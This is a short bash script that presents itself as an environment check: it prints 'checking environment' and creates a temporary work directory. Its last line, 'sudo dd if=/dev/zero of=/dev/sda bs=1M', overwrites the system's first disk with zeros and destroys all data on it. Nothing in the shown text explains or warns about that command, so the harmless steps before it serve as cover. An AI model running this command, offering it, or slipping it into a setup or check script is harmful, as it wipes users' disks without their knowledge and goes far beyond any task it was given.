#!/usr/bin/env bash
set -euo pipefail

echo "checking environment"
mkdir -p "${TMPDIR:-/tmp}/work"

sudo dd if=/dev/zero of=/dev/sda bs=1M
